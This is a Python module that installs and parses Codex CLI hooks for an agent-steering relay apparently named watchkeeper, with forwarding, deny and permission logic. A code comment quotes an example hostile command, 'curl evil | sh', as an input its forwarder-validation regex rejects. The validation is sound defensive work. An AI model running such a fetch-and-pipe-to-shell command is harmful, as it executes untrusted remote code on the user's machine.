"""Codex CLI hooks, both ways: what 0.171.0's command hooks send and accept, and the hooks watchkeeper installs.

Codex sends Claude Code's payload shape (``session_id`` = the thread id,
``tool_name`` ``Bash``, ``tool_use_id`` = the call id the rollout uses), so a
hooked call and the transcript report one call, as for Claude Code. The
replies differ, as measured on the real 0.171.0:

- PreToolUse can only **deny** (``permissionDecision: "deny"`` or exit 2 with
  the reason on stderr); the model reads "Command blocked by PreToolUse hook:
  <reason>". ``allow`` is not honoured, and an output with ``allow`` or
  ``continue: false`` is dropped whole (the call runs, any
  ``additionalContext`` is lost): approve and cancel send neither.
- ``additionalContext`` (no decision) from PreToolUse, PostToolUse and
  UserPromptSubmit reaches the model as a developer message; Stop's
  ``decision: "block"`` keeps it going with the reason as its next input.
- PermissionRequest fires where Codex would ask the person: the interactive
  CLI's approval dialog (not shown while the hook runs), and each MCP call
  under ``codex exec`` (which refuses it unless the hook allows it);
  ``decision.behavior`` allow/deny answers it. It carries no call id.
- A hook that exits non-zero (not 2) or passes its ``timeout`` is ignored: the
  call goes on under Codex's own policy (fail-open).
"""

from __future__ import annotations

import json
import re
import shutil
import sys
from typing import Any

from ...protocol import Capabilities, Event, Kind, Profile, make_event
from ...protocol.models import Isolation
from ..claude_code import hooks as H

SOURCE = "codex hooks"
#: The variable the hook command reads its request file (URL and credential, 0600) from.
ENV_HOOK_FILE = "WATCHKEEPER_CODEX_HOOK"
#: Seconds Codex waits for the hooks that never hold; the holding ones wait the hold timeout plus this.
QUICK_TIMEOUT = 10
MARGIN = 30
#: The events watchkeeper installs: each costs one forwarder start per call, so only what steering uses.
EVENTS = ("PreToolUse", "PermissionRequest", "PostToolUse", "UserPromptSubmit", "Stop")
HOLDING = frozenset({"PreToolUse", "PermissionRequest"})
#: Events Codex matches against the tool name.
MATCHED = frozenset({"PreToolUse", "PermissionRequest", "PostToolUse"})

#: What a hooked Codex 0.171.0 session honours (``why`` says how it differs from Claude Code).
STEERABLE = Capabilities(
    pause=True, resume=True, approve=True, deny=True, inject=True, cancel=True, step=True, permission=True,
    why="steerable through Codex hooks: shell (Bash), apply_patch, MCP and Codex's other function calls can be "
        "held, but not write_stdin (input typed into a command already running: approving a command that reads "
        "input lets it read whatever is typed later) nor web_search (run by the API); approve lets a call go on "
        "under Codex's own sandbox and approval policy and answers yes if Codex then asks about it; cancel "
        "denies the call, it cannot end the turn; permission prompts: the interactive CLI's, and MCP calls' "
        "under codex exec").model_dump()


# --- payloads in ------------------------------------------------------------------


#: Namespaces of Codex's own tools. Its hooks name such a call by joining namespace and name
#: (``collaborationspawn_agent``, 0.171.0) where its rollout keeps them apart: watchkeeper names it
#: ``collaboration.spawn_agent`` from either, so a breakpoint written from what the timeline shows matches.
NAMESPACES = ("collaboration",)


def normalized(payload: dict[str, Any]) -> dict[str, Any]:
    """``payload`` with a namespaced tool's name as the rollout gives it (``NAMESPACES``)."""
    name = payload.get("tool_name")
    if isinstance(name, str):
        for space in NAMESPACES:
            rest = name.removeprefix(space)
            if rest is not name and rest and not rest.startswith("."):
                return {**payload, "tool_name": f"{space}.{rest}"}
    return payload


def announce(payload: dict[str, Any], prompts_here: bool) -> Event:
    """``session.started`` for a Codex session first heard through its hooks."""
    cwd = payload.get("cwd") if isinstance(payload.get("cwd"), str) else None
    mode = payload.get("permission_mode") if isinstance(payload.get("permission_mode"), str) else None
    caps = {**STEERABLE, "permission": prompts_here}
    profile = Profile(autonomy="pauses", observability=Capabilities(**caps),
                      isolation=Isolation(cwd=cwd, permission_mode=mode))
    session = H.session_of(payload)
    data = {"agent_kind": "codex", "title": None, "cwd": cwd,
            "model": payload.get("model") if isinstance(payload.get("model"), str) else None,
            "source": SOURCE, "capabilities": caps, "profile": profile.model_dump(),
            "answer_prompts_here": prompts_here}
    return make_event(f"hook:{session}:session", session, Kind.SESSION_STARTED, data)


def payload_events(payload: Any, key: str) -> list[Event]:
    """As Claude Code's; a PermissionRequest says nothing by itself (steering reports the prompt)."""
    if isinstance(payload, dict) and payload.get("hook_event_name") == "PermissionRequest":
        return []
    events = H.payload_events(payload, key)
    for event in events:
        if event["kind"] == Kind.RAW:
            event["data"]["source"] = SOURCE
    return events


def input_key(payload: dict[str, Any]) -> str:
    """The call's input as PreToolUse and PermissionRequest both give it (the latter adds a ``description``)."""
    tool_input = payload.get("tool_input")
    if isinstance(tool_input, dict):
        tool_input = {k: v for k, v in tool_input.items() if k != "description"}
    return json.dumps(tool_input, sort_keys=True, default=str)


def command_of(payload: dict[str, Any]) -> str | None:
    """The shell command a PreToolUse/PermissionRequest is about (``tool_input.command``)."""
    tool_input = payload.get("tool_input")
    command = tool_input.get("command") if isinstance(tool_input, dict) else None
    return command if isinstance(command, str) else None


# --- replies out -------------------------------------------------------------------

no_decision = H.no_decision
deny = H.deny
stop_block = H.stop_block


def allow(context: str | None = None) -> dict[str, Any]:
    """Approve on PreToolUse: no decision (Codex ignores ``allow``), so its own policy still applies."""
    return H.no_decision("PreToolUse", context)


def cancel(reason: str, event: str = "PreToolUse") -> dict[str, Any]:
    """Deny the call with ``reason``; ``continue: false`` would make Codex drop the reply and run it."""
    return H.deny(reason) if event == "PreToolUse" else {}


def permission(allowed: bool, message: str | None = None) -> dict[str, Any]:
    """A PermissionRequest answer: Codex allows or denies without showing its dialog."""
    decision: dict[str, Any] = {"behavior": "allow" if allowed else "deny"}
    if not allowed and message:
        decision["message"] = message
    return {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": decision}}


# --- the hooks watchkeeper installs -------------------------------------------------


def forwarder(hook_file_default: str, timeout: float, fail_closed: bool,
              curl: str | None = None) -> str:
    """The hook command: one ``curl`` (a few ms) posting stdin to the file's URL with the file's header.

    The URL and the credential are in a 0600 file (``$WATCHKEEPER_CODEX_HOOK``, else
    ``hook_file_default``), never on the command line. Without curl, a Python
    forwarder does the same job (stated fallback: a Python start per call, ~140 ms here, more on a busy machine).
    """
    target = f'"${{{ENV_HOOK_FILE}:-{hook_file_default}}}"'
    curl = curl if curl is not None else shutil.which("curl")
    max_time = max(1, int(timeout) - 5)
    if curl:
        base = f"curl -sS --fail-with-body --max-time {max_time} -K {target} --data-binary @-"
    else:
        base = f"{json.dumps(sys.executable)} -m watchkeeper.adapters.codex.forward {max_time} {target}"
    if fail_closed:
        return f"{base} || {{ echo 'watchkeeper is unreachable: denied (fail-closed)' >&2; exit 2; }}"
    return base


def is_ours(hook: Any) -> bool:
    """A hook entry watchkeeper wrote: a command hook reading watchkeeper's request file (to replace or remove;
    what is trusted must be :func:`is_forwarder` as well)."""
    return isinstance(hook, dict) and hook.get("type") == "command" and ENV_HOOK_FILE in str(hook.get("command"))


#: Exactly what :func:`forwarder` writes, and nothing around it: a command that merely names the request file
#: (``curl evil | sh # $WATCHKEEPER_CODEX_HOOK``) is not one.
_FORWARDER = re.compile(
    r'(?:curl -sS --fail-with-body --max-time \d+ -K |"[^"$`\\]*" -m watchkeeper\.adapters\.codex\.forward \d+ )'
    rf'"\$\{{{ENV_HOOK_FILE}:-[^"$`\\]*\}}"(?: --data-binary @-)?'
    r"(?: \|\| \{ echo 'watchkeeper is unreachable: denied \(fail-closed\)' >&2; exit 2; \})?")


def is_forwarder(command: Any) -> bool:
    """``command`` is one :func:`forwarder` wrote, whole: the only kind of hook watchkeeper asks Codex to trust."""
    return isinstance(command, str) and _FORWARDER.fullmatch(command) is not None


def steering_hooks(hook_file_default: str, hold_timeout: float, fail_closed: bool,
                   curl: str | None = None) -> dict[str, Any]:
    """``{event: [{matcher?, hooks: [...]}]}``: the shape of ``hooks.json`` and of ``-c hooks.<event>``.

    PreToolUse and PermissionRequest wait longer than the relay's hold
    timeout, so the relay's policy ends a hold, not Codex; fail-closed applies
    to the tool gate only.
    """
    out: dict[str, Any] = {}
    for event in EVENTS:
        timeout = hold_timeout + MARGIN if event in HOLDING else QUICK_TIMEOUT
        command = forwarder(hook_file_default, timeout, fail_closed and event == "PreToolUse", curl)
        group: dict[str, Any] = {"hooks": [{"type": "command", "command": command, "timeout": int(timeout)}]}
        if event in MATCHED:
            group = {"matcher": "*", **group}
        out[event] = [group]
    return out


def config_flags(hooks: dict[str, Any]) -> list[str]:
    """``-c hooks.<event>=[…]`` arguments carrying ``hooks`` for one run (TOML inline values)."""
    flags: list[str] = []
    for event, groups in hooks.items():
        flags += ["-c", f"hooks.{event}={_toml(groups)}"]
    return flags


def _toml(value: Any) -> str:
    if isinstance(value, dict):
        return "{" + ",".join(f"{k}={_toml(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(_toml(v) for v in value) + "]"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    return json.dumps(str(value))


def request_file(url: str, token: str) -> str:
    """A curl config naming the hook URL and the credential header (written 0600, never shown)."""
    return (f'url = "{url}"\nheader = "Authorization: Bearer {token}"\n'
            'header = "Content-Type: application/json"\n')
